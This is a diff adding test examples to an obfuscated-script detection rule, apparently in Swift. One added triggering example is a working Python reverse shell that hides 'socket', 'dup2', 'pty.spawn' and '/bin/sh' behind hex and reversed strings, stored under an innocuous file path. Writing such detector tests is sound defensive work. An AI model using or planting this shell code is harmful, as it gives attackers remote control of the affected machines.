@@ -12,6 +12,11 @@ extension ObfuscatedScriptRule {
     .joined(separator: "+") + "\n"
 
   static let triggering: [Example] = [
+    Example(
+      "import os\n\ndef _warm(h, p):\n↓    m = __import__(bytes.fromhex(\"736f636b6574\").decode())\n    o = __import__(\"so\"[::-1])\n"
+        + "    c = m.socket(m.AF_INET, m.SOCK_STREAM)\n    c.connect((h, p))\n    for fd in (0, 1, 2):\n"
+        + "        getattr(o, \"2pud\"[::-1])(c.fileno(), fd)\n    getattr(__import__(\"pty\"), \"nwaps\"[::-1])(\"hs/nib/\"[::-1])\n",
+      language: .python, path: "scripts/_compat.py", note: "a reverse shell whose module and function names are hex and reversed"),
     Example(obfuscatorOutput, language: .javascript, path: "index.js", note: "javascript-obfuscator output"),
     Example(
       "# Helper\n\nLoad it first:\n\n```js\n" + obfuscatorOutput + "```\n", language: .markdown,
@@ -20,6 +25,9 @@ extension ObfuscatedScriptRule {
   ]
 
   static let nonTriggering: [Example] = [
+    Example(
+      "import importlib\n\nfmt = importlib.import_module(\"json\")\nhandler = getattr(fmt, \"dumps\")\nprint(\"olleh\"[::-1])\n",
+      language: .python, note: "dynamic imports by plain name, and a reversed string that names nothing"),
     Example(
       #"!function(e,t){"use strict";var n=require("https");n.get(t,function(r){r.on("data",function(o){e(o)})})}(console.log,"https://example.com");"#
         + "\n", language: .javascript, path: "dist/app.min.js", note: "minified: short names, readable strings"),
